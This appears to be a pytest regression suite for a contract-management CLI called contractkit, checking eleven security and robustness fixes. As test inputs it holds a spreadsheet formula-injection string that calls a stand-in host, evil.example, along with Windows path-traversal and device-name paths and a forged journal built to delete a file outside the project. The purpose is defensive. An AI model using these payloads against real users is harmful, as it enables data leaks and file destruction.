"""Review s28: what an attacker or a careless user still got through, each tried through the command line.

1. Text that a spreadsheet takes for a formula (``=...``) reached the title rows of an exported workbook as a
   formula that ran when the workbook was opened; in the table it was written with a visible apostrophe, which
   a re-import then took as part of the text. It is now a text cell with Excel's quote prefix, and a re-import
   reads it back as the words written (a formula cell is still refused).
2. A number of days written with thousands of digits was refused in Python's words ("Exceeds the limit (4300
   digits) for integer string conversion ... use sys.set_int_max_str_digits()").
3. The C1 control characters (U+0080-U+009F, among them NEL, YAML's ``"\\N"``, which some programs show as a line
   break) passed in names and titles into every document.
4. A path absolute on Windows (``C:\\x``, ``C:/x``), leaving the folder there (``..\\..\\x``) or naming a Windows
   device (``evidence/CON.pdf``, ``NUL``) passed ``validate`` on Linux and macOS: the same project file, opened on
   Windows, names a file outside the project or a device.
5. A project file that loads (libyaml) but that the pure-Python YAML parser refuses, such as a tab between a flow
   mapping's ``}`` and its comment, could not be edited: ``demand --record`` refused to append its event, and
   ``import boq`` failed with PyYAML's scanner message ("cannot be edited: while scanning for the next token").
6. A payment node (or a valuation) could be called ``all``: ``demand --node all`` then wrote the letter for every
   overdue node, and that node could never be named on its own.
7. ``init`` in a folder whose project file is ``project.yml`` wrote a ``project.yaml`` beside it, and every command
   given the folder then read the new, empty project and silently ignored the user's; a folder with both files was
   read as whichever came first.
8. A journal of an interrupted ``demand --record`` shipped with a project folder (``.project.yaml.contractkit-journal``,
   its checksum worked out by whoever wrote it) was acted on by the first command to read the project, even
   ``validate``: it deleted any file whose content its writer knew (a default ``~/.bashrc``, a published document),
   anywhere on the computer, or by a relative path from wherever contractkit ran. A journal now names the inode of
   the project file it was written for, and one that does not is left alone and reported.
9. LAW008 suggested a rate table's own name for it ("no interest term reads the table 'lpr-1y' ...; did you mean
   'lpr-1y'?") when the contract's interest reads no table.
10. An evidence file ``apply`` cannot use (missing, empty, damaged) was refused as ``evidence/p2.pdf (evidence E3):
    file not found``: a path relative to the project folder rather than to where the command runs, and no line of
    the project file to fix. It is now said at the line that names it.
11. An output named inside a file (``-o notes.txt/letter.docx``) was refused as "no such folder for the output",
    though the folder named is there, as a file.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result

from contractkit.cli import main
from tests.projects import copy_sample

AS_OF = "2026-11-29"


def invoke(*args: str) -> Result:
    result = CliRunner().invoke(main, [str(a) for a in args])
    assert "internal error" not in result.output and "Traceback" not in result.output, result.output
    return result


def edit(project: Path, old: str, new: str) -> None:
    path = project / "project.yaml"
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


# -- 1. formulas in exported workbooks ------------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"open")'


def _formulas(workbook: Path) -> list[str]:
    with zipfile.ZipFile(workbook) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in sheets for f in re.findall(r"<f>([^<]*)</f>", archive.read(n).decode("utf-8"))]


def test_text_that_looks_like_a_formula_is_exported_as_text_everywhere_and_reimported_as_written(
    tmp_path: Path,
) -> None:
    project = copy_sample("warehouse-cn", tmp_path / "w")
    text = (project / "project.yaml").read_text(encoding="utf-8")
    name = re.search(r"\n  name: (.*)", text)
    assert name is not None
    edit(project, f"  name: {name.group(1)}", "  name: '" + HOSTILE_NAME.replace("'", "''") + "'")
    edit(project, "description: 平整场地", "description: '=1+2'")
    edit(project, "section: 土石方工程, description: 挖一般土方", "section: '@SUM(1)', description: 挖一般土方")
    assert invoke("validate", project).exit_code == 0
    out = tmp_path / "bill.xlsx"
    result = invoke("export", project, "-o", out, "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    formulas = _formulas(out)
    assert formulas, "the workbook's own formulas are kept"
    assert not [f for f in formulas if "evil" in f or "1+2" in f or "SUM(1)" in f], formulas
    book = openpyxl.load_workbook(out)
    cells = {c.value: c for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    titled = [v for v in cells if v.startswith(HOSTILE_NAME)]
    assert titled and all(cells[v].data_type == "s" and cells[v].quotePrefix for v in titled)
    assert "=1+2" in cells and cells["=1+2"].data_type == "s" and cells["=1+2"].quotePrefix
    assert "'=1+2" not in cells  # no apostrophe put into the text itself
    # imported again, the bill keeps its words
    before = (project / "project.yaml").read_text(encoding="utf-8")
    sheet = next(ws.title for ws in book if "=1+2" in [c.value for row in ws.iter_rows() for c in row])
    result = invoke("import", "boq", out, "--project", project, "--sheet", sheet)
    assert result.exit_code == 0, result.output
    after = (project / "project.yaml").read_text(encoding="utf-8")
    assert "description: =1+2" in after or "description: '=1+2'" in after, after
    assert "'=1+2'" in before


def test_a_formula_cell_is_still_refused_on_import(tmp_path: Path) -> None:
    project = copy_sample("warehouse-cn", tmp_path / "w")
    out = tmp_path / "bill.xlsx"
    assert invoke("export", project, "-o", out, "--as-of", AS_OF).exit_code == 0
    book = openpyxl.load_workbook(out)
    sheet = next(ws for ws in book if "平整场地" in [c.value for row in ws.iter_rows() for c in row])
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == "平整场地")
    cell.value = "=1+2"
    book.save(out)
    before = (project / "project.yaml").read_bytes()
    result = invoke("import", "boq", out, "--project", project, "--sheet", sheet.title)
    assert result.exit_code == 2
    assert f"{sheet.title}!{cell.coordinate}: the description holds a formula" in result.output, result.output
    assert (project / "project.yaml").read_bytes() == before


# -- 2. numbers of days with thousands of digits -------------------------------------------------------------


def test_a_number_of_days_with_thousands_of_digits_is_refused_in_contractkit_s_words(tmp_path: Path) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    edit(project, "due: {after: application, days: 7}", "due: {after: application, days: " + "9" * 5000 + "}")
    result = invoke("validate", project)
    assert result.exit_code == 2
    line = result.output.strip().splitlines()[0]
    assert re.match(
        r".*project\.yaml:\d+: payment_schedule\[0\]\.due\.days: 9+\.\.\.\(5000 digits\) days is more", line
    ), line
    assert "set_int_max_str_digits" not in result.output and len(line) < 300, line


# -- 3. C1 control characters ---------------------------------------------------------------------------------


@pytest.mark.parametrize("written", ['"A\\x85B"', '"A\\NB"', '"A\\x9bB"', '"A\\u0080B"'])
def test_a_c1_control_character_is_refused_at_its_line(tmp_path: Path, written: str) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    edit(project, "name: 上海浦江置业有限公司", f"name: {written}")
    result = invoke("draft", project, "-o", tmp_path / "c.docx")
    assert result.exit_code == 2, result.output
    assert re.match(
        r".*project\.yaml:\d+: parties\.client\.name: contains the control character U\+00[89]", result.output
    )
    assert not (tmp_path / "c.docx").exists()


# -- 4. paths that leave the folder, or name a device, on Windows -----------------------------------------------


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("C:\\Windows\\win.ini", "not an absolute path"),
        ("c:/Users/me/secret.pdf", "not an absolute path"),
        ("C:secret.pdf", "not an absolute path"),
        ("..\\..\\secret.pdf", "leaves the project folder"),
        ("evidence\\..\\..\\secret.pdf", "leaves the project folder"),
        ("evidence/CON.pdf", "on Windows is a device"),
        ("evidence/nul", "on Windows is a device"),
        ("COM1.pdf", "on Windows is a device"),
        ("lpt9/x.pdf", "on Windows is a device"),
        ("evidence/aux .pdf", "on Windows is a device"),
    ],
)
def test_a_path_that_leaves_the_folder_or_names_a_device_on_windows_is_refused(
    tmp_path: Path, written: str, said: str
) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    edit(project, "file: evidence/p2-acceptance.pdf", "file: '" + written + "'")
    result = invoke("validate", project)
    assert result.exit_code == 1, result.output
    assert re.search(r"project\.yaml:\d+: FIL001 error evidence\[2\]\.file: .*" + re.escape(said), result.output)
    out = tmp_path / "pack"
    result = invoke("apply", project, "--node", "P2", "-o", out, "--as-of", AS_OF, "--no-pdf")
    assert result.exit_code == 1 and not out.exists(), result.output


@pytest.mark.parametrize("written", ["evidence/p2-acceptance.pdf", "evidence/../evidence/p2-acceptance.pdf"])
def test_names_like_devices_or_drives_only_in_part_are_accepted(tmp_path: Path, written: str) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    for name in ("console.pdf", "nul-report.pdf", "COM10.pdf", "x-C:.pdf"):
        (project / "evidence" / name).write_bytes((project / "evidence" / "p2-acceptance.pdf").read_bytes())
    edit(project, "file: evidence/p2-acceptance.pdf", f"file: '{written}'")
    edit(
        project,
        "  - {id: E5,",
        "  - {id: E6, node: P2, title: a, file: evidence/console.pdf}\n"
        "  - {id: E7, node: P2, title: b, file: evidence/nul-report.pdf}\n"
        "  - {id: E8, node: P2, title: c, file: evidence/COM10.pdf}\n"
        "  - {id: E9, node: P2, title: d, file: 'evidence/x-C:.pdf'}\n"
        "  - {id: E5,",
    )
    result = invoke("validate", project)
    assert "FIL001" not in result.output and "FIL002" not in result.output, result.output


# -- 5. files that load must be editable ---------------------------------------------------------------------

TAB_AFTER_FLOW = (
    "escalation: {reminder: 1, notice: 15, final: 30}",
    "escalation: {reminder: 1, notice: 15, final: 30}\t# days",
)


def test_record_appends_to_a_file_with_a_tab_the_loader_reads(tmp_path: Path) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p", TAB_AFTER_FLOW)
    before = (project / "project.yaml").read_text(encoding="utf-8")
    assert invoke("validate", project).exit_code == 0
    out = tmp_path / "d.docx"
    result = invoke("demand", project, "--node", "P2", "-o", out, "--as-of", AS_OF, "--record", "--sent-by", "email")
    assert result.exit_code == 0, result.output
    after = (project / "project.yaml").read_text(encoding="utf-8")
    head, tail = before.split("\nescalation:")
    assert after.startswith(head) and after.endswith("\nescalation:" + tail), after
    assert "type: notice" in after[len(head) :] and out.exists()
    assert invoke("validate", project).exit_code == 0


def test_import_writes_into_a_file_with_a_tab_the_loader_reads(tmp_path: Path) -> None:
    project = copy_sample("warehouse-cn", tmp_path / "w")
    out = tmp_path / "bill.xlsx"
    assert invoke("export", project, "-o", out, "--as-of", AS_OF).exit_code == 0
    text = (project / "project.yaml").read_text(encoding="utf-8")
    line = next(x for x in text.splitlines() if x.startswith("escalation: {"))
    edit(project, line, line.split("#")[0].rstrip() + "\t# days overdue")
    assert invoke("validate", project).exit_code in (0, 1)
    book = openpyxl.load_workbook(out)
    sheet = next(ws.title for ws in book if "平整场地" in [c.value for row in ws.iter_rows() for c in row])
    result = invoke("import", "boq", out, "--project", project, "--sheet", sheet)
    assert result.exit_code == 0, result.output
    assert "\t# days overdue" in (project / "project.yaml").read_text(encoding="utf-8")


# -- 6. a node called "all" ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["all", "ALL", "All"])
def test_a_payment_node_cannot_be_called_all(tmp_path: Path, name: str) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p", ("P2", name))
    out = tmp_path / "d.docx"
    result = invoke("demand", project, "--node", name, "-o", out, "--as-of", AS_OF)
    assert result.exit_code == 2 and not out.exists(), result.output
    assert re.match(
        r".*project\.yaml:\d+: payment_schedule\[1\]\.id: '" + name + "' cannot be a payment node's id", result.output
    )


def test_a_valuation_cannot_be_called_all(tmp_path: Path) -> None:
    project = copy_sample("warehouse-cn", tmp_path / "w", ("V02", "all"))
    result = invoke("validate", project)
    assert result.exit_code == 2
    assert re.match(r".*project\.yaml:\d+: valuations\[1\]\.id: 'all' cannot be a payment node's id", result.output)


def test_import_valuation_refuses_the_id_all(tmp_path: Path) -> None:
    project = copy_sample("warehouse-cn", tmp_path / "w")
    out = tmp_path / "v.xlsx"
    assert invoke("export", project, "-o", out, "--as-of", AS_OF).exit_code == 0
    before = (project / "project.yaml").read_bytes()
    result = invoke("import", "valuation", out, "--project", project, "--id", "all", "--to", "2026-11-25")
    assert result.exit_code == 2, result.output
    assert "'all' cannot be a payment node's id" in result.output
    assert (project / "project.yaml").read_bytes() == before


# -- 7. two project files in one folder ----------------------------------------------------------------------


def test_init_refuses_a_folder_whose_project_file_is_project_yml(tmp_path: Path) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    (project / "project.yaml").rename(project / "project.yml")
    before = (project / "project.yml").read_bytes()
    for extra in ((), ("--force",)):
        result = invoke("init", project, *extra)
        assert result.exit_code == 2, result.output
        assert "project.yml: this folder already has a project file" in result.output
        assert not (project / "project.yaml").exists()
    assert (project / "project.yml").read_bytes() == before
    assert invoke("status", project, "--as-of", AS_OF).exit_code == 0


def test_a_folder_with_two_project_files_is_refused_not_guessed(tmp_path: Path) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    (project / "project.yml").write_bytes((project / "project.yaml").read_bytes())
    for args in (("validate", project), ("status", project, "--as-of", AS_OF)):
        result = invoke(*args)
        assert result.exit_code == 2, result.output
        assert "this folder has two project files, project.yaml and project.yml" in result.output
    assert invoke("validate", project / "project.yml").exit_code == 0


# -- 8. a journal that came with the folder --------------------------------------------------------------------


def _forged_journal(project: Path, victim: Path, *, relative: bool = False) -> Path:
    raw = base64.b64encode((project / "project.yaml").read_bytes()).decode("ascii")
    target = victim.name if relative else str(victim)
    temp = ".contractkit-1-ab.tmp" if relative else str(victim.parent / ".contractkit-1-ab.tmp")
    lost = {"temp": "/nonexistent/.contractkit-2-cd.tmp", "target": "/nonexistent/x.docx", "sha256": "0" * 64}
    outputs = [{"temp": temp, "target": target, "sha256": hashlib.sha256(victim.read_bytes()).hexdigest()}, lost]
    body = json.dumps({"file": "project.yaml", "old": raw, "new": raw, "outputs": outputs}, sort_keys=True)
    journal = project / ".project.yaml.contractkit-journal"
    record = {"payload": body, "sha256": hashlib.sha256(body.encode("utf-8")).hexdigest()}
    journal.write_text(json.dumps(record), encoding="utf-8")
    return journal


@pytest.mark.parametrize("relative", [False, True])
def test_a_journal_shipped_with_the_folder_deletes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, relative: bool
) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    victim = tmp_path / "home" / "notes.txt"
    victim.parent.mkdir()
    victim.write_text("a file outside the project, whose content the sender knows\n", encoding="utf-8")
    monkeypatch.chdir(victim.parent)
    journal = _forged_journal(project, victim, relative=relative)
    before = (project / "project.yaml").read_bytes()
    for args in (("validate", project), ("status", project, "--as-of", AS_OF)):
        result = invoke(*args)
        assert result.exit_code == 2, result.output
        assert f"{journal}: this record of an interrupted `demand --record` was not written for" in result.output
    assert victim.exists() and journal.exists()
    assert (project / "project.yaml").read_bytes() == before


def test_a_genuine_journal_is_still_finished_by_the_next_command(tmp_path: Path) -> None:
    from contractkit.render import journal as journal_module

    project = copy_sample("fitout-cn", tmp_path / "p")
    notices = (project / "project.yaml").read_text(encoding="utf-8").count("type: notice")
    out = tmp_path / "d.docx"
    calls = {"n": 0}
    real_rewrite = journal_module._rewrite

    def die_once(fd: int, current: bytes, target: bytes) -> None:  # killed after the commit point
        calls["n"] += 1
        if calls["n"] == 1:
            raise KeyboardInterrupt
        real_rewrite(fd, current, target)

    journal_module._rewrite = die_once  # type: ignore[assignment]
    try:
        args = ("demand", project, "--node", "P2", "-o", out, "--as-of", AS_OF, "--record", "--sent-by", "email")
        assert CliRunner().invoke(main, [str(a) for a in args]).exit_code != 0
    finally:
        journal_module._rewrite = real_rewrite  # type: ignore[assignment]
    assert (project / ".project.yaml.contractkit-journal").exists()
    assert invoke("validate", project).exit_code == 0
    assert not (project / ".project.yaml.contractkit-journal").exists()
    recorded = (project / "project.yaml").read_text(encoding="utf-8").count("type: notice") - notices
    assert recorded == 1 and out.exists(), (recorded, out.exists())  # finished forward: the letter and its record


# -- 9. LAW008 does not suggest the name written -------------------------------------------------------------


def test_an_unread_rate_table_is_not_offered_its_own_name(tmp_path: Path) -> None:
    rows = "rates: {lpr-1y: [{from: 2026-01-01, rate: 3%, source: PBOC}]}\nescalation:"
    project = copy_sample("fitout-cn", tmp_path / "p", ("escalation:", rows))
    result = invoke("validate", project)
    assert "LAW008 warning rates.lpr-1y: no interest term of this contract reads the table 'lpr-1y'" in result.output
    assert "did you mean 'lpr-1y'" not in result.output, result.output


# -- 10. an unusable evidence file is said where the project names it ------------------------------------------


@pytest.mark.parametrize(("content", "reason"), [(None, "file not found"), (b"", "the file is empty")])
def test_an_unusable_evidence_file_is_located_in_the_project_file(
    tmp_path: Path, content: bytes | None, reason: str
) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    evidence = project / "evidence" / "p2-acceptance.pdf"
    evidence.unlink()
    if content is not None:
        evidence.write_bytes(content)
    out = tmp_path / "pack"
    result = invoke("apply", project, "--node", "P2", "-o", out, "--as-of", AS_OF, "--no-pdf")
    assert result.exit_code == 2 and not out.exists(), result.output
    text = (project / "project.yaml").read_text(encoding="utf-8")
    line = text[: text.index("file: evidence/p2-acceptance.pdf")].count("\n") + 1
    expected = f"project.yaml:{line}: evidence[2].file: evidence/p2-acceptance.pdf (evidence E3): {reason}"
    assert expected in result.output.splitlines()[0], result.output


# -- 11. an output inside a file -------------------------------------------------------------------------------


def test_an_output_inside_a_file_is_refused_for_what_it_is(tmp_path: Path) -> None:
    project = copy_sample("fitout-cn", tmp_path / "p")
    notes = tmp_path / "notes.txt"
    notes.write_text("mine", encoding="utf-8")
    for args in (
        ("draft", project, "-o", notes / "c.docx"),
        ("demand", project, "--node", "P2", "-o", notes / "d.docx", "--as-of", AS_OF),
        ("apply", project, "--node", "P2", "-o", notes / "pack", "--as-of", AS_OF, "--no-pdf"),
    ):
        result = invoke(*args)
        assert result.exit_code == 2, result.output
        assert f"{notes}: is a file, not a folder" in result.output, result.output
    assert notes.read_text(encoding="utf-8") == "mine"
